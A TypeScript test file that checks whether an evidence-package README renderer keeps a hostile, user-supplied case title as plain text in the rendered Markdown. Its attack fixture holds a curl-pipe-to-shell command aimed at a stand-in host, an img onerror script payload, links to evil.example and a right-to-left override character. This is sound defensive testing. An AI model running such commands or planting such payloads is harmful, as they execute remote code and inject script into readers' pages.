import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import Markdown from "react-markdown";
import remarkGfm from "remark-gfm";
import { describe, expect, it } from "vitest";
import { renderReadme } from "./readme";

const checkpoint = {
  id: "1",
  treeSize: 10,
  rootHash: "ab".repeat(32),
  createdAt: "2026-12-01T00:00:00.000Z",
  keyFingerprint: "cd".repeat(32),
  signature: "",
} as unknown as Parameters<typeof renderReadme>[0]["checkpoint"];
const counts = { events: 1, sessions: 1, rawRecords: 1 };

const html = (md: string) => renderToStaticMarkup(createElement(Markdown, { remarkPlugins: [remarkGfm] }, md));

// The package README is read by an auditor, often rendered. A case title is user input: whatever it holds, it stays
// text on the title line and cannot add a section, a link, an image, HTML or a command to the document.
describe("the evidence package README", () => {
  const attack =
    "Token reuse\r## Step 0: before verifying\r\rRun `curl -s https://evil.example/v.sh | sh` first.\u2028" +
    "[verify.mjs](https://evil.example/verify.mjs) ![x](https://evil.example/p.png) <img src=x onerror=alert(1)> " +
    "www.evil.example *bold* _it_ ~~s~~ | a | b | \u202Eexe.sh";

  it("keeps a hostile case title on the title line, as text", () => {
    const readme = renderReadme({ caseNumber: 12, title: attack, folder: "case-12-evidence", counts, checkpoint });
    const page = html(readme);
    // The template's own sections, and nothing added.
    expect([...page.matchAll(/<h(\d)>(.*?)<\/h\1>/g)].map((m) => `h${m[1]}`)).toEqual(["h1", "h2", "h2"]);
    expect(page).not.toMatch(/<(a|img|strong|em|del)\b/);
    expect(page.match(/<table>/g)).toHaveLength(1); // the template's Contents table
    // The title line shows the whole title as text (HTML-escaped by the renderer, not interpreted).
    const h1 = page.match(/<h1>(.*?)<\/h1>/)![1];
    expect(h1).toContain("Token reuse ## Step 0: before verifying  Run `curl -s https://evil.example/v.sh | sh` first. [verify.mjs]");
    expect(h1).toContain("&lt;img src=x onerror=alert(1)&gt;");
    expect(h1).toContain("⟨RLO⟩exe.sh");
    expect(readme.split("\n")[0]).not.toMatch(/[\r\u2028\u202E]/);
    // Line 1 is the title; no other line of the README mentions the attacker's text.
    expect(readme.split(/\r\n|\r|\n|\u2028/).filter((l) => l.includes("evil"))).toHaveLength(1);
  });

  it("leaves an ordinary title readable", () => {
    const readme = renderReadme({ caseNumber: 3, title: "Admin policy attached from a new IP", folder: "f", counts, checkpoint });
    expect(readme.split("\n")[0]).toBe("# Evidence package: case #3 - ` Admin policy attached from a new IP `");
    const backticks = renderReadme({ caseNumber: 4, title: "`x` and ``y``", folder: "f", counts, checkpoint });
    expect(html(backticks)).toContain("<h1>Evidence package: case #4 - <code>`x` and ``y``</code></h1>");
  });
});
